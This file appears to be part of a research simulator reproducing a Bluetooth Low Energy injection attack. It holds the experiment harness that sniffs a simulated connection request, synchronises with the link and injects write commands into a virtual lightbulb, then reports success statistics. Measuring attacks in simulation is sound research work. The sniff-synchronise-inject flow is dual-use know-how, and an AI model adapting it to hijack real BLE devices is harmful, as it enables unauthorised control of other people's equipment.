    obs::ScopedSubscription hook_sub;
    if (config.on_attempt_hook) {
        hook_sub = obs::ScopedSubscription(w.bus(), [&config](const obs::Event& event) {
            const auto* a = std::get_if<obs::InjectionAttempt>(&event);
            if (a != nullptr && a->report != nullptr) config.on_attempt_hook(*a->report);
        });
    }

    // Phase 1: sniff the CONNECT_REQ while the connection establishes.
    w.establish_and_sniff(10_s);
    result.established = w.central->connected() && w.peripheral->connected();
    result.sniffed = w.sniffed.has_value();
    if (!result.established || !result.sniffed) return result;

    if (config.world.encrypt_link && !w.encrypt()) return result;  // setup failure

    // Background host traffic (GATT reads/writes) so master frames carry
    // real payloads instead of empty polls, like the paper's testbed.
    w.start_traffic();

    // Phase 2: synchronise and inject.
    w.session = std::make_unique<AttackSession>(*w.attacker, *w.sniffed, config.world.attack);
    AttackSession& session = *w.session;
    session.on_connection_lost = [&result] { result.session_lost = true; };
    w.peripheral->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    w.central->on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    session.start();
    w.scheduler.run_until(w.scheduler.now() +
                          8 * connection_interval(config.world.hop_interval));

    Bytes payload;
    if (config.payload_override) {
        payload = *config.payload_override;
    } else if (config.ll_payload_size >= 11) {
        // Observable frame: a Write Command driving the bulb, padded to the
        // requested LL payload size — gives ground truth for the heuristic.
        const std::size_t pad = config.ll_payload_size - 11;
        payload = att_over_l2cap(att::make_write_cmd(
            w.bulb.control_handle(),
            gatt::LightbulbProfile::cmd_set_color(
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)),
                static_cast<std::uint8_t>(w.rng.next_below(256)), pad)));
    } else {
        // Too short for an ATT request: raw LL data (still exercises the
        // full race + heuristic; the slave LL-acks and the host discards).
        payload.resize(config.ll_payload_size);
        for (auto& b : payload) b = static_cast<std::uint8_t>(w.rng.next_below(256));
    }

    const bool observable = !config.payload_override && config.ll_payload_size >= 11;
    int commands_seen = w.bulb.state().commands_received;
    session.on_attempt = [&](const AttemptReport& report) {
        result.attempts = report.attempt;  // progress even if the budget cuts us off
        bool accepted = false;
        if (observable) {
            accepted = w.bulb.state().commands_received > commands_seen;
            commands_seen = w.bulb.state().commands_received;
            if (report.verdict.success() && !accepted) ++result.heuristic_false_positives;
            if (!report.verdict.success() && accepted) ++result.heuristic_false_negatives;
        }
        if (w.bus().active()) {
            obs::InjectionAttempt event;
            event.time = w.scheduler.now();
            event.attempt = report.attempt;
            event.event_counter = report.event_counter;
            event.channel = report.channel;
            event.heuristic_success = report.verdict.success();
            event.ground_truth_known = observable;
            event.accepted_by_slave = accepted;
            event.report = &report;
            w.bus().emit(event);
        }
    };

    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.llid = config.llid;
    request.payload = payload;
    request.max_attempts = config.max_attempts;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        result.attempts = attempts;
    };
    w.emit_phase("inject");
    session.inject(std::move(request));

    // Worst case: ~2 events per attempt plus resync overhead.
    const Duration budget = connection_interval(config.world.hop_interval) *
                            (4 * config.max_attempts + 64);
    w.run_until(budget, [&] { return outcome.has_value(); });
    w.stop_traffic();
    result.success = outcome.value_or(false);
    char done_detail[48];
    std::snprintf(done_detail, sizeof(done_detail), "success=%d attempts=%d",
                  result.success ? 1 : 0, result.attempts);
    w.emit_phase("done", done_detail);
    return result;
}

RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                              std::uint64_t seed, int tries) {
    RunResult result;
    for (int t = 0; t < tries; ++t) {
        result = run_injection_experiment(config, seed + 7919u * static_cast<std::uint64_t>(t));
        // A missed CONNECT_REQ or failed pairing is an experiment-setup
        // failure, not an attack outcome: the paper's operator re-runs the
        // connection. Attack failures (lost sync, exhausted attempts) stand.
        if (result.established && result.sniffed) break;
    }
    result.seed = seed;  // the reproducing seed is the trial's base seed
    return result;
}

std::vector<RunResult> run_series(const ExperimentConfig& config, ResultSink& sink,
                                  SeriesSlice slice) {
    const ResultChannels& ch = sink.channels();

    // Resolve the slice against the series length: trials [first, first+count)
    // of config.runs, seeds keyed by the *global* trial index.
    const int total_runs = config.runs;
    int first = std::clamp(slice.first, 0, total_runs);
    int count = slice.count < 0 ? total_runs - first
                                : std::min(slice.count, total_runs - first);
    if (count < 0) count = 0;

    const bool want_metrics = ch.metrics || static_cast<bool>(config.on_series_metrics);
    const bool want_prof = config.profile_spans || ch.profile;

    // Per-trial metric snapshots, stored by index like the results: merging
    // them in slice order afterwards is deterministic for any worker count.
    std::vector<obs::MetricsSnapshot> metric_snapshots(
        want_metrics ? static_cast<std::size_t>(count) : 0);

    TrialRunner runner(config.jobs);
    runner.set_progress_label(config.name);
    // Always installed, so the runner's environment-gated default meter never
    // engages: progress is entirely the sink's channel.
    runner.set_progress([&](int done, int total) {
        if (ch.progress) sink.on_progress(config.name, done, total);
    });
    auto results = runner.map(count, [&](int i) {
        // RunResult::wall_ms is documented non-deterministic and excluded
        // from every comparison, so the host clock is fine here; campaign
        // sinks turn the channel off for bit-identical shard outputs.
        // injectable-lint: allow(D2) -- measures host wall-clock cost only
        std::chrono::steady_clock::time_point t0{};
        if (ch.wall_clock) {
            // injectable-lint: allow(D2) -- host wall-clock cost, see above.
            t0 = std::chrono::steady_clock::now();
        }
        const auto base_seed = config.base_seed + static_cast<std::uint64_t>(first + i);

        const ExperimentConfig* trial_config = &config;
        ExperimentConfig instrumented_config;
        std::shared_ptr<obs::JsonlTraceSink> trace;
        std::shared_ptr<obs::MetricsRegistry> registry;
        std::shared_ptr<obs::MetricsSink> metrics;
        std::shared_ptr<obs::ChannelOccupancySink> occupancy;
        std::shared_ptr<obs::capture::CaptureSink> capture;
        if (ch.traces || ch.timelines || want_metrics || ch.captures) {
            instrumented_config = config;
            // Each setup retry builds a fresh world (and bus): restart every
            // sink so they hold exactly the surviving world's events.
            instrumented_config.per_trial_sinks = [&](obs::EventBus& bus, std::uint64_t seed) {
                if (ch.traces) {
                    trace = std::make_shared<obs::JsonlTraceSink>(link::describe_frame);
                    trace->set_header(experiment_meta_json(config, base_seed, kSetupRetries));
                    bus.attach(*trace);
                }
                if (want_metrics) {
                    registry = std::make_shared<obs::MetricsRegistry>();
                    metrics = std::make_shared<obs::MetricsSink>(*registry);
                    bus.attach(*metrics);
                }
                if (ch.timelines) {
                    occupancy = std::make_shared<obs::ChannelOccupancySink>();
                    bus.attach(*occupancy);
                }
                if (ch.captures) {
                    capture = std::make_shared<obs::capture::CaptureSink>();
                    bus.attach(*capture);
                }
                if (config.per_trial_sinks) config.per_trial_sinks(bus, seed);
            };
            trial_config = &instrumented_config;
        }

        std::unique_ptr<obs::prof::Profiler> profiler;
        if (want_prof) {
            obs::prof::ProfilerParams params;
            params.wall_clock = ch.profile_wall;
            params.chrome_trace = ch.timelines;
            profiler = std::make_unique<obs::prof::Profiler>(params);
        }
        RunResult result;
        {
            // Install covers the whole trial (all setup retries) on this
            // worker thread; a null profiler makes every span a no-op.
            const obs::prof::Install install(profiler.get());
            result = run_injection_experiment_with_retry(*trial_config, base_seed, kSetupRetries);
        }
        if (ch.wall_clock) {
            result.wall_ms =
                // injectable-lint: allow(D2) -- host wall-clock cost, see above.
                std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0)
                    .count();
        }
        if (metrics) {
            metrics->finalize();
            if (profiler) profiler->export_metrics(*registry);
            metric_snapshots[static_cast<std::size_t>(i)] = registry->snapshot();
        }
        const std::string stem = sanitize_experiment_name(config.name) + "-seed" +
                                 std::to_string(result.seed);
        auto emit_artifact = [&](ArtifactKind kind, std::string content) {
            TrialArtifact artifact;
            artifact.kind = kind;
            artifact.stem = stem;
            artifact.seed = result.seed;
            artifact.success = result.success;
            artifact.content = std::move(content);
            sink.on_artifact(artifact);
        };
        if (trace && (ch.trace_all || !result.success)) {
            emit_artifact(ArtifactKind::kEventTrace, trace->str());
        }
        if (occupancy) {
            emit_artifact(ArtifactKind::kChromeTimeline, occupancy->chrome_trace_json());
        }
        if (capture) {
            emit_artifact(ArtifactKind::kPcapCapture, capture->pcap_bytes());
        }
        if (profiler != nullptr && ch.timelines) {
            emit_artifact(ArtifactKind::kProfTimeline, profiler->chrome_trace_json());
        }
        if (profiler != nullptr && ch.profile_wall) {
            const std::string summary = profiler->wall_summary();
            std::fprintf(stderr, "[injectable] %s seed %llu %s", stem.c_str(),
                         static_cast<unsigned long long>(result.seed), summary.c_str());
        }
        return result;
    });

    obs::MetricsSnapshot series_metrics;
    if (want_metrics) {
        for (const auto& snapshot : metric_snapshots) series_metrics.merge(snapshot);
        if (config.on_series_metrics) config.on_series_metrics(series_metrics);
    }
    if (ch.series_record) {
        const SeriesSlice resolved{first, count};
        sink.on_series_record(config, resolved, results,
                              want_metrics ? &series_metrics : nullptr);
    }
    return results;
}

std::vector<RunResult> run_series(const ExperimentConfig& config) {
    // The classic flow is now just edge wiring: environment variables become
    // a PathsResultSink (and a run-count override) right here, and the core
    // above never touches the environment.
    ExperimentConfig effective = config;
    effective.runs = env_runs_override(config.runs);
    PathsResultSink sink(sink_paths_from_env());
    return run_series(effective, sink);
}

void append_run_result_json(std::string& out, const RunResult& r) {
    // wall_ms formats like `ostream << double` (%g, precision 6) so the
    // record bytes match every previously written campaign file.
    char wall[40];
    std::snprintf(wall, sizeof(wall), "%g", r.wall_ms);
    out += "{\"seed\":" + std::to_string(r.seed);
    out += ",\"success\":";
    out += r.success ? "true" : "false";
    out += ",\"attempts\":" + std::to_string(r.attempts);
    out += ",\"established\":";
    out += r.established ? "true" : "false";
    out += ",\"sniffed\":";
    out += r.sniffed ? "true" : "false";
    out += ",\"session_lost\":";
    out += r.session_lost ? "true" : "false";
    out += ",\"victim_disconnected\":";
    out += r.victim_disconnected ? "true" : "false";
    out += ",\"heuristic_fp\":" + std::to_string(r.heuristic_false_positives);
    out += ",\"heuristic_fn\":" + std::to_string(r.heuristic_false_negatives);
    out += ",\"wall_ms\":";
    out += wall;
    out += '}';
}

std::string to_json(const ExperimentConfig& config, const std::vector<RunResult>& results,
                    const ble::obs::MetricsSnapshot* metrics) {
    std::ostringstream os;
    // Experiment names are free-form (and end up in shared JSONL files):
    // escape them like every other observability string.
    os << "{\"experiment\":\"" << obs::json_escape(config.name)
       << "\",\"base_seed\":" << config.base_seed
       << ",\"runs\":" << results.size() << ",\"jobs\":" << resolve_jobs(config.jobs)
       << ",\"hop_interval\":" << config.world.hop_interval
       // The same self-describing meta object that heads every trace file:
       // lets `trace_replay --from-json` re-run the series from this record
       // alone (config + seed list, no stored traces needed).
       << ",\"meta\":" << experiment_meta_json(config, config.base_seed, kSetupRetries)
       << ",\"trials\":[";
    std::string trial;
    for (std::size_t i = 0; i < results.size(); ++i) {
        if (i) os << ',';
        trial.clear();
        append_run_result_json(trial, results[i]);
        os << trial;
    }
    os << "]";
    if (metrics != nullptr) os << ",\"metrics\":" << metrics->to_json();
    os << "}";
    return os.str();
}

Stats summarize(const std::vector<RunResult>& results) {
    Stats stats;
    std::vector<double> attempts;
    for (const auto& r : results) {
        ++stats.n;
        if (r.success) {
            ++stats.successes;
            attempts.push_back(static_cast<double>(r.attempts));
        }
    }
    if (attempts.empty()) return stats;
    std::sort(attempts.begin(), attempts.end());
    auto quantile = [&](double q) {
        const double idx = q * static_cast<double>(attempts.size() - 1);
        const auto lo = static_cast<std::size_t>(idx);
        const std::size_t hi = std::min(lo + 1, attempts.size() - 1);
        const double frac = idx - static_cast<double>(lo);
        return attempts[lo] * (1.0 - frac) + attempts[hi] * frac;
    };
    stats.min = attempts.front();
    stats.q1 = quantile(0.25);
    stats.median = quantile(0.5);
    stats.q3 = quantile(0.75);
    stats.max = attempts.back();
    double sum = 0;
    // injectable-lint: allow(D3) -- sums `attempts` after the sort above, so the accumulation order (and the FP result) is fixed
    for (double a : attempts) sum += a;
    stats.mean = sum / static_cast<double>(attempts.size());
    return stats;
}

void print_stats_header(const std::string& variable) {
    std::printf("%-18s %8s %6s %6s %7s %6s %6s %7s\n", variable.c_str(), "success",
                "min", "Q1", "median", "Q3", "max", "mean");
}

void print_stats_row(const std::string& label, const Stats& stats) {
    std::printf("%-18s %5d/%-2d %6.0f %6.1f %7.1f %6.1f %6.0f %7.2f\n", label.c_str(),
                stats.successes, stats.n, stats.min, stats.q1, stats.median, stats.q3,
                stats.max, stats.mean);
}

}  // namespace injectable::world
