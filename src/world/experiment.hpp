// Shared harness for the paper's sensitivity experiments (§VII, Fig. 9).
//
// One "run" mirrors one of the paper's measurements: the legitimate Central
// establishes a fresh connection with the Peripheral, the attacker sniffs the
// CONNECT_REQ, synchronises, and injects until the Eq. 7 heuristic reports
// success; we record the number of attempts.  25 runs per configuration (as
// in the paper), each with a fresh seed (fresh clock drifts and fading
// draws).
//
// The testbed itself is a world::WorldSpec — the paper's Fig. 8 baseline by
// default (fading enabled, chatty master) — and every trial is a pure
// function of (config, seed), so run_series() fans the trials out on a
// TrialRunner: results are stored by trial index and are bit-identical to a
// serial run regardless of BENCH_JOBS.
#pragma once

#include <algorithm>
#include <cstdio>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "obs/metrics.hpp"
#include "world/result_sink.hpp"
#include "world/trial_runner.hpp"
#include "world/world.hpp"

namespace injectable::world {

/// Setup retries per trial (a missed CONNECT_REQ / failed pairing re-runs
/// the connection, as the paper's operator would).  Recorded in every trace
/// meta header so a replay applies the identical retry policy.
inline constexpr int kSetupRetries = 3;

struct ExperimentConfig {
    std::string name = "experiment";
    int runs = 25;            // connections per configuration (paper: 25)
    int max_attempts = 1500;  // per-run attempt budget
    std::uint64_t base_seed = 1000;
    /// Worker threads for run_series(); 0 resolves via BENCH_JOBS / hardware
    /// concurrency (results are index-ordered, identical for any value).
    int jobs = 0;

    /// Enables the deterministic self-profiler (src/obs/prof) per trial:
    /// prof.* sim-time span metrics join the merged series snapshot (and thus
    /// INJECTABLE_JSON / INJECTABLE_METRICS), and nested span timelines land
    /// next to the Chrome traces under INJECTABLE_CHROME_TRACE_DIR.
    /// INJECTABLE_PROF=1 turns this on from the environment;
    /// INJECTABLE_PROF_WALL=1 additionally prints per-trial wall-clock span
    /// tables to stderr (non-deterministic, never recorded).
    bool profile_spans = false;

    /// The testbed (geometry, clocks, RF, traffic, counter-measures).
    WorldSpec world{};

    // Injected frame: raw LL payload of this size (paper §VII-B varies it).
    // The default 12-byte payload gives the paper's 22-byte / 176 µs frame.
    std::size_t ll_payload_size = 12;
    /// When set, inject this exact LL payload instead (e.g. a real ATT write).
    std::optional<ble::Bytes> payload_override;
    ble::link::Llid llid = ble::link::Llid::kDataStart;

    /// Per-attempt tap for outcome-analysis benches.  run_series() executes
    /// trials on worker threads, so the hook may be invoked concurrently —
    /// accumulate into atomics (totals are order-independent, keeping the
    /// bench output deterministic).  Implemented as an obs::EventBus
    /// subscription over obs::InjectionAttempt events.
    std::function<void(const AttemptReport&)> on_attempt_hook;

    /// Called once per trial *world* (including each setup retry, which
    /// builds a fresh world) right after construction, before any event is
    /// emitted: attach per-trial sinks to the world's isolated bus here.
    /// Invoked concurrently from worker threads, but each call receives a
    /// bus no other thread touches.
    std::function<void(ble::obs::EventBus&, std::uint64_t seed)> per_trial_sinks;

    /// Receives the series' merged metrics snapshot at the end of
    /// run_series() (per-trial registries merged in trial-index order, so the
    /// snapshot is bit-identical for any BENCH_JOBS).  Setting this enables
    /// metrics collection even without INJECTABLE_JSON / INJECTABLE_METRICS.
    std::function<void(const ble::obs::MetricsSnapshot&)> on_series_metrics;
};

/// Structured per-trial record: the seed that reproduces the trial, the
/// attack outcome flags, and the host wall-clock cost.  Everything except
/// wall_ms is deterministic in (config, seed).
struct RunResult {
    std::uint64_t seed = 0;  ///< base seed of the trial (before setup retries)
    bool success = false;
    int attempts = 0;
    bool sniffed = false;
    bool established = false;
    bool session_lost = false;         ///< attacker lost sync with the target
    bool victim_disconnected = false;  ///< a victim dropped during the attack
    /// God-view: per-attempt ground truth (did the slave accept the frame),
    /// used to score the Eq. 7 heuristic itself.
    int heuristic_false_positives = 0;
    int heuristic_false_negatives = 0;
    /// Host wall clock consumed by the trial, including setup retries.
    /// NOT deterministic — excluded from comparisons.
    double wall_ms = 0.0;

    /// Compares the deterministic fields (wall_ms excluded).
    friend bool operator==(const RunResult& a, const RunResult& b) {
        return a.seed == b.seed && a.success == b.success && a.attempts == b.attempts &&
               a.sniffed == b.sniffed && a.established == b.established &&
               a.session_lost == b.session_lost &&
               a.victim_disconnected == b.victim_disconnected &&
               a.heuristic_false_positives == b.heuristic_false_positives &&
               a.heuristic_false_negatives == b.heuristic_false_negatives;
    }
};

struct Stats {
    int n = 0;
    int successes = 0;
    double min = 0, q1 = 0, median = 0, q3 = 0, max = 0, mean = 0;
};

/// Quartile summary of the attempts-before-success samples (successes only).
[[nodiscard]] Stats summarize(const std::vector<RunResult>& results);

/// Filesystem-safe form of an experiment name, as used in trace file stems
/// ("<name>-seed<seed>.jsonl[.gz]").  Shared with tools/campaign_report so
/// report and recorder agree on trace paths.
[[nodiscard]] std::string sanitize_experiment_name(const std::string& name);

/// Runs one full measurement (connection + sniff + inject).
[[nodiscard]] RunResult run_injection_experiment(const ExperimentConfig& config,
                                                 std::uint64_t seed);

/// Re-runs the setup phase (connection + sniff) on setup failures, as the
/// paper's operator would; attack outcomes are never retried.
[[nodiscard]] RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                                            std::uint64_t seed, int tries);

/// Runs the trials of one series through an explicit ResultSink — the core
/// entry every campaign path uses.  `slice` selects trials
/// [first, first+count) of config.runs (the default is the whole series);
/// trial seeds are base_seed + global trial index, so a slice executed
/// anywhere produces exactly the trials a single-process run would.  The
/// sink's channels gate what each trial produces (traces, timelines, metrics,
/// profiler spans, wall-clock timing); artifacts, the series record and
/// progress heartbeats are delivered through the sink.  Reads no environment
/// variables.
[[nodiscard]] std::vector<RunResult> run_series(const ExperimentConfig& config, ResultSink& sink,
                                                SeriesSlice slice = {});

/// Legacy edge wrapper: resolves the classic INJECTABLE_* environment
/// variables into a PathsResultSink (INJECTABLE_RUNS overrides the run
/// count; see DESIGN.md §7 for the variable set) and runs the full series
/// through it.  Environment reads happen in result_sink.cpp only.
[[nodiscard]] std::vector<RunResult> run_series(const ExperimentConfig& config);

/// One JSON object per series: config identity plus per-trial records, plus
/// a "metrics" object when a merged snapshot is passed.
/// wall_ms fields are host timings and not deterministic.
[[nodiscard]] std::string to_json(const ExperimentConfig& config,
                                  const std::vector<RunResult>& results,
                                  const ble::obs::MetricsSnapshot* metrics = nullptr);

/// Appends one trial object — the element format of the "trials" array in
/// to_json().  Shared with the campaign wire protocol (src/campaign) so a
/// shard result re-serializes byte-identically wherever it lands.
void append_run_result_json(std::string& out, const RunResult& r);

/// Prints one row of a paper-style results table.
void print_stats_row(const std::string& label, const Stats& stats);
void print_stats_header(const std::string& variable);

}  // namespace injectable::world
